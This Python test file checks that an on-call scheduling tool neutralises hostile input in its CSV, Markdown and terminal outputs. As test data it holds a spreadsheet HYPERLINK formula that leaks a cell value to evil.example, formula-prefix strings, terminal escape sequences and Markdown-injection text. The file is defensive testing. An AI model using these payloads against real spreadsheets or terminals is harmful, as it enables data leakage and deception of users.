"""Hostile text typed by people reaches every output intact and harmless (issue 14, items 1-3).

Each test is the reported reproduction, run on a copy of the bundled workspace, and checks the
output with the parser that reads it: the csv module, a CommonMark parser with GFM tables, and
the absence of any ESC or BEL byte on a terminal.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from tests.invoke import oncall as invoke

DE = "schedules/data-engineering.yaml"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
ESCAPES = "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07 \x1b[2J"


def ok(*args: str):
    result = invoke(*args)
    assert result.exit_code == 0, result.output
    assert "Traceback" not in result.output
    return result


def edit(root: Path, name: str, old: str, new: str) -> None:
    path = root / name
    text = path.read_text()
    assert text.count(old) == 1
    path.write_text(text.replace(old, new))


def table_rows(markdown: str) -> int:
    tokens = MarkdownIt("commonmark").enable("table").parse(markdown)
    return sum(1 for token in tokens if token.type == "tr_open")


def headings(markdown: str) -> list[str]:
    tokens = MarkdownIt("commonmark").enable("table").parse(markdown)
    return [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open"]


# --- 1. Rich markup ---------------------------------------------------------------------------


def test_markup_in_a_leave_reason_is_printed_as_written(workspace: Path) -> None:
    ok("leave", "add", "bob", "2027-03-01", "--reason", "x [/] y")
    ok("leave", "add", "dev", "2027-03-08", "--reason", "[link=http://evil.example]here[/link]")
    listed = ok("leave", "list")
    assert "x [/] y" in listed.stdout
    assert "[link=http://evil.example]here[/link]" in listed.stdout


def test_markup_in_a_swap_note_is_printed_as_written(workspace: Path) -> None:
    ok("swap", "add", "2027-03-01", "2027-03-08", "--note", "[/red] n")
    assert "[/red] n" in ok("swap", "list").stdout


def test_markup_in_a_reason_and_a_rotation_name_in_schedule(
    workspace: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "300")  # every cell on one line
    edit(workspace, DE, "name: Data Engineering Team", "name: 'Data [/] Team [bold]x'")
    ok("leave", "add", "bob", "2027-03-08", "--reason", "[/] [link=http://evil.example]y")
    shown = ok("schedule", "--start", "2027-03-01", "-n", "4").stdout
    assert "Data [/] Team [bold]x" in shown
    assert "bob on leave 8 Mar ([/] [link=http://evil.example]y)" in shown


# --- 2. spreadsheet formulas ------------------------------------------------------------------


@pytest.mark.parametrize("reason", [FORMULA, "@SUM(A1)", "+1+1", "-1+1", "\t=1", "\r=1"])
def test_leave_list_csv_never_starts_a_formula(workspace: Path, reason: str) -> None:
    ok("leave", "add", "bob", "2027-03-01", "--reason", reason)
    rows = list(csv.DictReader(io.StringIO(ok("leave", "list", "--format", "csv").stdout)))
    [row] = [r for r in rows if r["member"] == "bob"]
    assert row["reason"].startswith("'")
    assert row["reason"][1:] == reason.replace("\r", "\n")


def test_every_csv_neutralises_formulas(workspace: Path) -> None:
    ok("leave", "add", "bob", "2027-03-08", "--reason", FORMULA)
    ok("swap", "add", "2027-03-15", "2027-03-22", "--note", FORMULA)
    window = ("schedule", "--start", "2027-03-01", "-n", "4")
    for command in (window, ("swap", "list"), ("fairness",)):
        text = ok(*command, "--format", "csv").stdout
        for row in csv.reader(io.StringIO(text)):
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
    schedule = list(csv.DictReader(io.StringIO(ok(*window, "-f", "csv").stdout)))
    assert any(FORMULA in row["reason"] for row in schedule)  # inside a longer cell: kept
    swaps = list(csv.DictReader(io.StringIO(ok("swap", "list", "-f", "csv").stdout)))
    assert [row["note"] for row in swaps] == ["'" + FORMULA]


# --- 3. Markdown and terminal -----------------------------------------------------------------


def test_newlines_in_a_reason_add_no_markdown_rows(workspace: Path) -> None:
    for reason in ("a\n| x | y |", "b\r## owned", "c\r\n# top"):
        ok("leave", "add", "bob", "2027-03-01", "--reason", reason)
        md = ok("leave", "list", "--format", "md").stdout
        assert table_rows(md) == 1 + 3  # header, alice's ski trip, bob's leave, chloe's wedding
        assert headings(md) == []
        ok("leave", "remove", "bob", "2027-03-01")


def test_schedule_markdown_with_a_hostile_rotation_name_and_reason(workspace: Path) -> None:
    edit(workspace, DE, "name: Data Engineering Team", 'name: "Data\\r## Evil\\n| a | b |"')
    ok("leave", "add", "bob", "2027-03-08", "--reason", "x\r## y\n| 1 | 2 |")
    md = ok("schedule", "--start", "2027-03-01", "-n", "4", "--format", "md").stdout
    assert headings(md) == ["On call: Data ## Evil \\| a \\| b \\|"]
    assert table_rows(md) == (1 + 4) + (1 + 4)  # weeks, then the load of four members
    assert "x ## y \\| 1 \\| 2 \\|" in md


def test_handoff_markdown_with_hostile_items_notes_and_names(workspace: Path) -> None:
    edit(workspace, DE, "name: Alice Adams", 'name: "Alice\\n# Evil"')
    ok("handoff", "carry", "chase costs\n## Injected\n- [x] fake item\r# more")
    ok("swap", "add", "2027-01-11", "2027-01-18", "--note", "note\n# heading\r| a |")
    md = ok("handoff", "--date", "2027-01-11").stdout
    assert headings(md) == [
        "On-call hand-off: Data Engineering Team, week of Mon 11 Jan 2027",
        "The coming week (Mon 11 Jan - Sun 17 Jan)",
        "Pipelines",
        "Profit (`profit`)",
        "Growth (`growth`)",
        "Engagement (`engagement`)",
        "Aggregated data for executives and investors (`aggregated`)",
        "Carried over",
        "Notes",
    ]
    tokens = MarkdownIt("commonmark").parse(md.split("## Carried over", 1)[1])
    items = [t for t in tokens if t.type == "list_item_open"]
    assert len(items) == 2  # the carried item, and the empty note to fill in
    assert "#1 chase costs ## Injected - \\[x\\] fake item # more, since" in md
    assert "- **Outgoing:** Alice # Evil (alice)\n" in md


def test_escape_sequences_in_a_file_are_refused_with_one_line(workspace: Path) -> None:
    edit(workspace, DE, "name: Bob Brown", f"name: {json.dumps('Bob' + ESCAPES)}")
    for command in (("whois",), ("schedule",), ("validate",), ("handoff",)):
        result = invoke(*command)
        assert result.exit_code == 2
        assert result.stderr.splitlines() == [
            f"error: {DE}: members[1].name: control character U+001B is not allowed"
        ]
        assert "\x1b" not in result.output


def test_escape_sequences_from_the_history_never_reach_the_terminal(workspace: Path) -> None:
    history = workspace / "state" / "diagnose-history.jsonl"
    history.parent.mkdir()
    run = {
        "at": "2027-01-05T10:00:00+00:00",
        "pipeline": "engagement",
        "status": "fail" + ESCAPES,
        "checks": [{"id": "kafka_gap" + ESCAPES, "status": "fail", "count": 1}],
    }
    history.write_text(json.dumps(run) + "\n")
    md = ok("handoff", "--date", "2027-01-11").stdout
    assert "\x1b" not in md and "\x07" not in md
    assert r"**fail\\x1b\]8;;http://evil.example\\x07click" in md
    assert r"fail: kafka_gap\\x1b\]8;;" in md


def test_whois_text_shows_control_characters_as_text() -> None:
    from oncall.incident.whois import render_text

    answer = {
        "pipeline": None,
        "at": "2027-01-12T10:00:00+01:00",
        "timezone": "Europe/Berlin",
        "name": "Team" + ESCAPES,
        "policy": "immediate",
        "on_call": {"rotation": "r", "name": "Bob\x1b[31m", "phone": "+1\x07", "email": "b@x.io"},
        "note": "line one\nON CALL  Mallory\r\x1b[2K",
        "escalation": [{"step": 1, "who": "Team\x9b31m", "contact": "x\u202ey"}],
    }
    text = render_text(answer)
    assert not any(c in text for c in "\x1b\x07\x9b\u202e\r")
    assert "\nON CALL  Mallory" not in text
    assert "Bob\\x1b[31m" in text


def test_control_characters_on_the_command_line_are_refused(workspace: Path) -> None:
    for args in (
        ("leave", "add", "bob", "2027-03-01", "--reason", "bell\x07"),
        ("swap", "add", "2027-03-01", "2027-03-08", "--note", "\x1b[2J"),
        ("handoff", "carry", "x\x00y"),
    ):
        result = invoke(*args)
        assert result.exit_code == 2
        [line] = result.stderr.splitlines()
        assert line.startswith("error: ") and "control character U+00" in line
    assert "bell" not in (workspace / DE).read_text()


def test_a_long_reason_is_refused_on_the_command_line(workspace: Path) -> None:
    result = invoke("leave", "add", "bob", "2027-03-01", "--reason", "r" * 501)
    assert result.exit_code == 2
    assert result.stderr == "error: --reason: longer than 500 characters (501)\n"
    assert "rrrr" not in (workspace / DE).read_text()


@pytest.mark.parametrize("reason", [":x", "?x", ": x", "a, b", "x}", "#x", "- x", "'q", '"q'])
def test_a_reason_starting_with_a_colon_or_question_mark(workspace: Path, reason: str) -> None:
    result = invoke("leave", "add", "bob", "2027-03-01", f"--reason={reason}")
    assert result.exit_code == 0, result.output
    assert ok("leave", "list", "--format", "json").stdout.count(json.dumps(reason)) == 1
